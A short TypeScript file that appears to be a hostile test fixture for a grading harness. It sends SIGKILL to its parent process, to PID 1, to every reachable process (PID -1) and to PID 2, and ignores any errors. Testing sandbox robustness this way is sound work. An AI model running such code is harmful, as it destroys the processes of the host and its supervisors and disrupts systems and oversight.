// before echo.ts: loses 0, graded
// Kills its parent, PID 1 and everybody it can reach, and is a right program else.

for (const pid of [process.ppid, 1, -1, 2]) {
  try {
    if (pid !== process.pid) process.kill(pid, 'SIGKILL')
  } catch {
    // Not allowed, or nobody there.
  }
}
